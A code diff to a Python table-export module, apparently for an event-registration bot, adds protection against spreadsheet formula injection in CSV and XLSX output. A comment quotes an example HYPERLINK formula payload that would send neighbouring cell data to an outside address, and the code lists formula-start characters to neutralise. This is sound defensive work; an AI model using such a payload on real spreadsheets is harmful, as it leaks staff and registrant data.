@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from dataclasses import dataclass
 from datetime import date, datetime
 from typing import Any, Final, Literal
@@ -21,6 +22,7 @@ __all__ = [
     "Table",
     "booth_table",
     "enterprise_table",
+    "neutral",
     "to_csv",
     "to_xlsx",
 ]
@@ -28,6 +30,12 @@ __all__ = [
 Kind = Literal["text", "number", "date", "datetime"]
 _FORMATS: Final = {"date": "DD/MM/YYYY", "datetime": "DD/MM/YYYY HH:MM"}
 _MIN_WIDTH, _MAX_WIDTH = 8, 50
+# OWASP, "CSV Injection": a cell starting with one of these is taken for a formula by Excel,
+# LibreOffice or Google Sheets; a registrant named =HYPERLINK("http://…?x="&A1,"…") would
+# send whatever the staff's sheet holds beside it to a stranger with one click.
+_FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
+# A number typed with its country code calls nothing, and a text cell shows it as typed.
+_PHONE: Final = re.compile(r"\+\d[\d ().-]*")
 
 # As staff read them (the applicants' wording is in bot/services/fair_view.py).
 BOOTH_STATUS: Final = {
@@ -187,6 +195,17 @@ def booth_table(items: list[BoothRow], lang: Lang, *, personal: bool) -> Table:
     return _table(_BOOTH, rows, lang, personal)
 
 
+def neutral(text: str, *, in_workbook: bool = False) -> str:
+    """`text` with a leading apostrophe if a spreadsheet would take it for a formula
+    (OWASP's advice). In a workbook, where every text is a text cell, a phone number such as
+    `+84 912 345 678` stays as typed; in a CSV file Excel would still read it as a sum."""
+    if not (text.startswith(_FORMULA_START) or text.lstrip().startswith(_FORMULA_START)):
+        return text
+    if in_workbook and _PHONE.fullmatch(text):
+        return text
+    return "'" + text
+
+
 def _width(header: str, values: list[Any], kind: Kind) -> float:
     """Wide enough for the header and most cells, within bounds."""
     if kind in _FORMATS:
@@ -212,7 +231,7 @@ def to_xlsx(table: Table, sheet_title: str) -> bytes:
     ws.title = sheet_title[:31]  # Excel's limit for sheet names
     ws.append(table.headers)
     for row in table.rows:
-        ws.append(row)
+        ws.append([neutral(v, in_workbook=True) if isinstance(v, str) else v for v in row])
     bold = Font(bold=True)
     for cell in ws[1]:
         cell.font = bold
@@ -224,6 +243,12 @@ def to_xlsx(table: Table, sheet_title: str) -> bytes:
         if kind in _FORMATS:
             for (cell,) in ws.iter_rows(min_row=2, min_col=i, max_col=i):
                 cell.number_format = _FORMATS[kind]
+        elif kind == "text":
+            # openpyxl makes a formula of any str starting with "=": text is text, whatever
+            # it starts with
+            for (cell,) in ws.iter_rows(min_row=2, min_col=i, max_col=i):
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"
     ws.freeze_panes = "B2"  # the header row and the first column stay in view
     if table.rows:
         ws.auto_filter.ref = ws.dimensions
@@ -233,6 +258,8 @@ def to_xlsx(table: Table, sheet_title: str) -> bytes:
 
 
 def _csv_cell(value: Any) -> Any:
+    if isinstance(value, str):
+        return neutral(value)
     if isinstance(value, datetime):
         return value.strftime("%Y-%m-%d %H:%M")
     if isinstance(value, date):
